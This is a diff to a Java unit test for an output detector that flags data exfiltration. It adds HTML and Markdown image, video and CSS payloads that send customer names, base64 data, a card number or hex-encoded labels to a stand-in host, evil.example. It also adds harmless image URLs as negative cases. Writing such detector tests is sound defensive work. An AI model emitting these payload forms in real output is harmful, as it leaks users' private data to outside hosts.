@@ -87,6 +87,29 @@ class InsecureOutputDetectorTest {
         assertThat(reported(text)).extracting(Finding::entityType).containsExactly("DATA_EXFILTRATION");
     }
 
+    /// As browsers read them, and renderers of Markdown that let HTML pass.
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "<img src=https://evil.example/p.png?data=the-customer-is-jane >",
+                "<img alt='' src = \"//evil.example/p?q=Y3VzdG9tZXIgamFuZSBkb2UgNDExMQ\">",
+                "<video poster=\"https://evil.example/p?secret=jane\"></video>",
+                "<p style=\"background: url('https://evil.example/p?secret=jane')\">x</p>",
+                "<style>p { background: url(https://evil.example/p?secret=jane) }</style>",
+                "<image href=\"https://evil.example/p?secret=jane\"/>",
+                "![x\\]y](https://evil.example/p.png?data=the-customer-is-jane)",
+                "![x](https:\\\\evil.example/p.png?data=the-customer-is-jane)",
+                "![x](https:/evil.example/p.png?data=the-customer-is-jane)",
+                "![x](https://evil.example/jane@example.com/p.png)",
+                "![x](https://evil.example/Y3VzdG9tZXIgSmFuZQ==.png)",
+                "![x](https://evil.example/4111111111111111.png)",
+                "![x](https://evil.example/the%20customer%20is%20jane)",
+                "![x](https://6a616e6520646f6520.evil.example/p.png)"
+            })
+    void findsWhateverIsFetchedWithDataInItsAddress(String text) {
+        assertThat(reported(text)).extracting(Finding::entityType).contains("DATA_EXFILTRATION");
+    }
+
     @Test
     void findsControlSequencesAndBase64() {
         assertThat(reported("done \u001B]8;;https://evil.example\u0007ok")).hasSize(1);
@@ -115,6 +138,9 @@ class InsecureOutputDetectorTest {
                 "Dear {{ customer_name }}, your order ${orderId} is on its way. {% if late %}Sorry!{% endif %}",
                 "import { a } from '../../lib/a.js';",
                 "model.eval()\nresult = regex.exec(text)\nalert(message);",
+                "<img src=\"https://img.example.com/photo-1506744038136-46273834b3fb.jpg\" alt=\"a lake\">",
+                "![shot](https://img.example.com/assets/8d6b2c1e-9f1a-4c7e-8e55-0b7d5d1f2a3c/My%20Photo.png)",
+                "p { background: url(https://example.com/img/background-large.png) }",
                 "- one\n- two\n+ three\n@team please read\n-5 degrees",
                 "Prices rose 5% (see table 1); 1 = one, a = b. If x == 1: y = 1",
                 "Delete the file with rm -rf node_modules and install again.",
@@ -137,8 +163,22 @@ class InsecureOutputDetectorTest {
 
     @Test
     void needsTimeInProportionToHostileText() {
-        for (String unit :
-                new String[] {"<", "<script", "`", "' or ", "$(", "{{", "![", "](http://a?", "%3C", "../", "&#"}) {
+        for (String unit : new String[] {
+            "<",
+            "<script",
+            "`",
+            "' or ",
+            "$(",
+            "{{",
+            "![",
+            "](http://a?",
+            "%3C",
+            "../",
+            "&#",
+            "<img src=//a?",
+            "url(//a?",
+            "\\](//"
+        }) {
             String text = unit.repeat(200_000 / unit.length());
             long start = System.nanoTime();
             DETECTOR.detect(text);
